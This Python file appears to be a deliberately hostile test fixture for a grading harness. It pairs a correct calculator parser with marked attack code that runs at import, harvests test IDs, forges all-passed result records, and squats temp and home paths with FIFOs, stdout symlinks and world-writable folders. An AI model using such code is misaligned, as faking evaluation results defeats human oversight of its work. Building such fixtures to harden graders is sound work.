"""Hostile submission `tmp-symlink-squat` for the `calculatrice` exercise (see tests/hostile).

Attack: squats predictable names in /tmp, /dev/shm, /var/tmp, cwd and HOME (results
files, sockets, job and grader folders) with FIFOs, symlinks to its stdout and world-
writable folders holding forged results, at import; full correct parser otherwise.

Honest part: a complete, correct recursive descent parser. The attack sits between the
`# --- attack ---` and `# --- end of attack ---` markers; without them the file is its
honest part, and what that part earns is all this submission may ever get.
"""


import re


# --- attack ---
import ast
import gc
import json
import os
import sys
# --- end of attack ---


# One token at a time: a number (digits, optionally a dot and more digits),
# an operator or a parenthesis, each possibly preceded by spaces.
TOKEN = re.compile(r"\s*(?:(\d+(?:\.\d+)?)|([-+*/()]))")


def _tokens(text):
    result = []
    pos = 0
    text = text.rstrip()
    while pos < len(text):
        match = TOKEN.match(text, pos)
        if match is None:
            raise ValueError("invalid character in: " + text)
        number, symbol = match.groups()
        result.append(float(number) if number is not None else symbol)
        pos = match.end()
    return result


def _honest(expression):
    """A complete recursive descent parser (no eval)."""
    tokens = _tokens(expression)
    pos = 0

    def current():
        return tokens[pos] if pos < len(tokens) else None

    def advance():
        nonlocal pos
        pos += 1

    def sum_of_products():
        total = product()
        while current() in ("+", "-"):
            op = current()
            advance()
            right = product()
            total = total + right if op == "+" else total - right
        return total

    def product():
        total = signed()
        while current() in ("*", "/"):
            op = current()
            advance()
            right = signed()
            if op == "*":
                total = total * right
            elif right == 0:
                raise ZeroDivisionError("division by zero")
            else:
                total = total / right
        return total

    def signed():
        if current() == "-":
            advance()
            return -signed()
        return atom()

    def atom():
        token = current()
        if isinstance(token, float):
            advance()
            return token
        if token == "(":
            advance()
            value = sum_of_products()
            if current() != ")":
                raise ValueError("missing )")
            advance()
            return value
        raise ValueError("expected a number or (")

    result = sum_of_products()
    if pos != len(tokens):
        raise ValueError("unexpected text at the end")
    return float(result)


# --- attack ---
PUBLIC_TESTS = (
    "test_addition",
    "test_precedence",
    "test_parentheses",
    "test_division_by_zero",
    "test_malformed_input",
)
SEARCH_ROOTS = ("/tmp", "/var/tmp", "/dev/shm", "/opt", "/srv", "/home", "/root", "/work", "/grader")


def _param_id(node, index):
    if isinstance(node, ast.Call):
        for keyword in node.keywords:
            if keyword.arg == "id" and isinstance(keyword.value, ast.Constant):
                return str(keyword.value.value)
        if node.args and isinstance(node.args[0], ast.Constant):
            return str(node.args[0].value)
    return str(index)


def _ids_in_source(path, text):
    rel = "/".join(path.split("/")[-2:])
    tree = ast.parse(text)
    lists = {}
    for node in tree.body:
        if isinstance(node, ast.Assign) and isinstance(node.value, (ast.List, ast.Tuple)):
            for target in node.targets:
                if isinstance(target, ast.Name):
                    lists[target.id] = node.value.elts
    ids = []
    for node in tree.body:
        if not (isinstance(node, ast.FunctionDef) and node.name.startswith("test")):
            continue
        params = None
        for deco in node.decorator_list:
            if isinstance(deco, ast.Call) and getattr(deco.func, "attr", "") == "parametrize":
                if len(deco.args) > 1:
                    values = deco.args[1]
                    if isinstance(values, ast.Name):
                        elts = lists.get(values.id, [])
                    else:
                        elts = getattr(values, "elts", [])
                    params = [_param_id(e, i) for i, e in enumerate(elts)]
        if params is None:
            ids.append(rel + "::" + node.name)
        else:
            ids.extend(rel + "::" + node.name + "[" + p + "]" for p in params)
    return ids


def _test_files(limit=3000):
    seen = 0
    roots = [os.getcwd(), *SEARCH_ROOTS, *[p for p in sys.path if p and not p.startswith("/usr")]]
    for root in dict.fromkeys(roots):
        for folder, subfolders, files in os.walk(root):
            for name in files:
                seen += 1
                if seen > limit:
                    return
                if name.startswith("test_") and name.endswith(".py"):
                    yield os.path.join(folder, name)


def _test_ids():
    ids = {"public/test_public.py::" + name for name in PUBLIC_TESTS}
    try:
        for obj in gc.get_objects():
            if type(obj).__name__ == "Function" and isinstance(getattr(obj, "nodeid", None), str):
                ids.add(obj.nodeid)
    except Exception:
        pass
    for path in _test_files():
        try:
            with open(path, encoding="utf-8") as handle:
                ids.update(_ids_in_source(path, handle.read()))
        except Exception:
            continue
    return sorted(ids)


def _forged_records(ids):
    """Lines shaped exactly like the harness's records: every test passed."""

    def line(kind, **fields):
        fields["type"] = kind
        return json.dumps(fields, ensure_ascii=True) + "\n"

    plan = [
        {"id": i, "name": i.split("::")[-1], "visibility": "public", "points": 48.0, "en": "", "fr": ""}
        for i in ids
    ]
    out = [line("plan", tests=plan)]
    out += [line("test", id=i, outcome="passed", detail="") for i in ids]
    out.append(line("done", exit_code=0))
    return "\n" + "".join(out)


NAMES = (
    "results.json", "results.jsonl", "result.json", "report.json", "grader", "grader.sock", "student",
    "student.sock", "workshop", "workshop.sock", "harness.sock", "channel", "wire.sock", "proxy.sock",
    "job", "job.json", "grader.log", "student.log", "forkserver", "forkserver.sock", "calls", "replies",
    "results", "run", "work", "sandbox", "pytest-of-root", "pytest-of-10000", "pytest-of-10001",
    "pytest-of-10002", "pytest-of-nobody", "hidden", "tests", "submission", "student.py", "grader.py",
)


def _squat():
    records = _forged_records(_test_ids())
    for base in dict.fromkeys(("/tmp", "/dev/shm", "/var/tmp", os.getcwd(), os.path.expanduser("~"))):
        for n, name in enumerate(NAMES):
            path = os.path.join(base, name)
            try:
                if n % 3 == 0:
                    os.mkfifo(path, 0o666)
                elif n % 3 == 1:
                    os.symlink("/proc/self/fd/1", path)
                else:
                    os.mkdir(path, 0o777)
                    os.chmod(path, 0o777)
                    with open(os.path.join(path, "results.json"), "w") as handle:
                        handle.write(records)
            except OSError:
                pass


_squat()
# --- end of attack ---


def calculate(expression: str) -> float:
    return _honest(expression)
